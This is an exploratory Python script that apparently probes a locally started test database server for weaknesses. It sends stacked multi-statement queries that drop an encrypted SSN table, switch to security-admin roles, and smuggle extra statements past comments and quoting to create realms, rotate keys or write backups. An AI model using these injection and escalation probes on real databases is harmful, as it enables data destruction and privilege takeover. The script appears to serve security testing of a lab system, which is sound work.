# exploratory script (attempts that held); run with /usr/bin/python3, prints observations
import sys, time, signal, os; sys.path.insert(0,'/work/attack2/findings')
from dbv import *
from pq import PQ
s=Server(); s.start(); print(s.tmp, s.port)
d=s.connect('dba'); sa=s.connect('secadmin')
print(run(d,"CREATE TABLE t (id INTEGER PRIMARY KEY)"))
print(run(d,"CREATE TABLE enc (id INTEGER PRIMARY KEY, ssn TEXT ENCRYPTED)"), run(d,"INSERT INTO enc VALUES (1,'secret-ssn')"))
p=PQ(s.port,'dba',PW['dba'])
M=["SELECT 1; BEGIN; SELECT * FROM nope", "ROLLBACK",
   "BEGIN; SELECT 1; COMMIT; SELECT * FROM nope",
   "INSERT INTO t VALUES (1); COMMIT; INSERT INTO t VALUES (2); SELECT * FROM nope", "SELECT id FROM t",
   "BEGIN; CREATE REALM zz DESCRIPTION 'x'", "ROLLBACK",
   "COMMIT; BEGIN", "ROLLBACK",
   "SELECT 1; DROP TABLE enc", "SELECT * FROM enc",
   "DROP TABLE enc; SELECT 1", "SELECT * FROM enc",
   "SELECT 1; DROP TABLE IF EXISTS main.\"ENC\"", "SELECT * FROM enc",
   "SET session_authorization = 'secadmin'", "SET ROLE vault_admin", "SELECT 1; SET session_authorization='secadmin'; CREATE REALM qq DESCRIPTION 'x'",
   "SAVEPOINT a; SELECT 1", "SELECT 1; SAVEPOINT a",
   "BEGIN; SAVEPOINT a; INSERT INTO t VALUES (5); ROLLBACK TO a; COMMIT", "SELECT id FROM t",
   "BEGIN", "SELECT 1; COMMIT; SELECT * FROM nope", "SELECT 1",
   "BEGIN", "SELECT * FROM nope", "SELECT 1; ROLLBACK; SELECT 2", "ROLLBACK; SELECT 2", "SELECT 1",
   "SET statement_timeout = '1ms'; SELECT * FROM nope", "SHOW statement_timeout",
   "UNLOCK REALM nosuch PASSWORD 'x'; SELECT 1",
   "SELECT 1; DISCARD ALL",
   "/* ; */ CREATE REALM c1 DESCRIPTION 'a;b' -- ;\n",
   "SELECT 'x'; /* */ CREATE REALM c2 DESCRIPTION 'a'",
   "SELECT $$;$$; CREATE REALM c3 DESCRIPTION 'a'",
   "SELECT E'\\'; CREATE REALM c4 DESCRIPTION 'a'; SELECT 1; -- '", "SELECT 1; CREATE TABLE tt (a INT) TABLESPACE nots", "SELECT 1; ALTER DATABASE ROTATE MASTER KEY", "SELECT 1; VERIFY AUDIT LOG", "SELECT 1; EXPLAIN VAULT SELECT * FROM t", "SELECT 1; BACKUP DATABASE TO '/tmp/x.bak'", "CREATE TRIGGER trg AFTER INSERT ON t BEGIN SELECT CASE WHEN 1 THEN 1 END; END; CREATE REALM c5 DESCRIPTION 'a'", "SELECT 1; CONNECT dba", "SELECT 1; REVIEW EMERGENCY UNLOCK",
]
for q in M:
    r=p.exec(q); print(repr(q), '=>', r if r[0]=='err' else ('ok', r[1][:3]), p.tx())
print(run(sa,"SELECT realm FROM vault.realms"))
